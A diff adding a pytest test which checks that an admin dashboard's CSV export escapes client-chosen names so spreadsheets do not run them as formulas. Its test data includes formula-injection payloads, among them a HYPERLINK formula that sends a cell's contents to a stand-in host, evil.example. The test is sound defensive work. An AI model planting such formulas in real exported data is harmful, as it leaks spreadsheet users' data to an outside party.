@@ -3,6 +3,8 @@ CSV export, and only for operators allowed to see it."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 
 import pytest
@@ -97,3 +99,23 @@ def test_a_range_far_in_the_future_is_refused_not_a_crash(statistics):
     client = operator("view_dashboard")
     page = client.get("/admin/analytics/dashboard/?start=9999-12-31&end=9999-12-31")
     assert page.status_code == 200 and b"too far ahead" in page.content
+
+
+def test_csv_cells_chosen_by_clients_are_never_formulas():
+    hour = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
+    worker = Buffer()
+    worker.join(hour, '=HYPERLINK("http://evil.example/?"&A1,"prize")', "+cmd", "a", "@SUM(1)")
+    worker.join(hour, "-2+3", "\tgame", "b", "\rnick")
+    worker.flush()
+    response = operator("view_dashboard").get("/admin/analytics/dashboard/?days=1&format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    names = {row[1] for row in rows[1:]}
+    assert names == {
+        '\'=HYPERLINK("http://evil.example/?"&A1,"prize")',
+        "'-2+3",
+        "'+cmd",
+        "'\tgame",
+        "'@SUM(1)",
+        "'\rnick",
+    }
+    assert {row[2] for row in rows[1:]} == {"1"}  # the counts stay numbers
